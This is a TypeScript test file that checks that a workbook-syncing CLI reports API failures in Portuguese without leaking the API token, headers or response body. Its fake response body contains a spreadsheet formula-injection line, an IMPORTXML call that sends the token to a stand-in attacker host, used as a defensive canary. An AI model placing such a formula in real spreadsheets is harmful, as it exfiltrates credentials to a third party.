// Issue 11, classes 5, 12 and the redirect: whatever the API answers, the coordinator reads pt-BR,
// without a word of the answer's body, its headers or the token. The answers go over real HTTP; the
// waits between retries pass on a virtual clock.

import { join } from 'node:path';
import type { HttpResponse } from '../../src/core/http';
import { createSchool } from '../../src/simulator';
import { startSimulatorServer } from '../../src/simulator/server';
import { cli, cohortOptions, initWorkbook, SIMULATOR_TOKEN as TOKEN, useTempDir, useVirtualClock } from './support/cli-harness';

const ENGLISH = /\b(the|rejected|check|retry|retried|failed|failure|answered|unexpected|could not|not found|please|error:|request|server|reached|redirect)\b/i;
const BODY = `=IMPORTXML("https://evil.example.com/?t=${TOKEN}") Invalid token ${TOKEN}`;

const json = (status: number, headers: Record<string, string> = {}): HttpResponse => ({
  status,
  headers: { 'content-type': 'application/json', ...headers },
  body: JSON.stringify({ success: false, code: status, msg: BODY }),
});

/** Each answer, and whether the run retries it before giving up. */
const answers: [string, HttpResponse, boolean][] = [
  ['405 (token refused)', json(405), false],
  ['404 without envelope', { status: 404, headers: { 'content-type': 'text/html', server: `nginx ${TOKEN}` }, body: `<h1>404 Not Found</h1>${BODY}` }, false],
  ['429 (rate limited)', json(429, { 'retry-after': '0' }), true],
  ['500', { status: 500, headers: { 'x-debug': BODY }, body: `<h1>Internal Server Error</h1>${BODY}` }, true],
  ['garbage JSON', { status: 200, headers: { 'content-type': 'application/json' }, body: `{"success":true,"data":{${BODY}` }, true],
  ['JSON of the wrong shape', { status: 200, headers: {}, body: JSON.stringify({ success: true, data: { usuario: BODY } }) }, false],
  ['redirect', { status: 302, headers: { location: `https://login.example.com/sso?next=/api&t=${TOKEN}` }, body: BODY }, false],
];

describe('the CLI over a misbehaving API speaks Portuguese', () => {
  const dir = useTempDir('cademi-ptbr-');
  const clock = useVirtualClock();
  const cohort = createSchool({ studentCount: 6 }).cohorts[0];

  it.each(answers)('%s', async (_name, answer, retried) => {
    const server = await startSimulatorServer({ port: 0, studentCount: 6, fault: () => answer });
    try {
      const file = await initWorkbook(join(dir(), 'escola.xlsx'), cohortOptions(cohort));
      const run = await cli(['sync', file], { CADEMI_BASE_URL: server.url, CADEMI_TOKEN: TOKEN });
      expect(run.code).toBe(1);
      const said = run.stderr;
      expect(said.trim()).not.toBe('');
      expect(said).not.toMatch(ENGLISH);
      expect(said).not.toContain(TOKEN);
      expect(said).not.toMatch(/IMPORTXML|evil\.example|Invalid token|Internal Server Error|nginx|\/sso|next=/);
      if (answer.status === 302) {
        expect(said).toMatch(/URL da API.*https:\/\/login\.example\.com|https:\/\/login\.example\.com.*URL da API/);
        expect(said).toMatch(/redirecionamento/);
      }
      // A retried answer is said once the retries are spent: the run waited (on the virtual clock) before giving up.
      if (retried) expect(clock.slept()).toBeGreaterThan(0);
    } finally {
      await server.close();
    }
  });
});
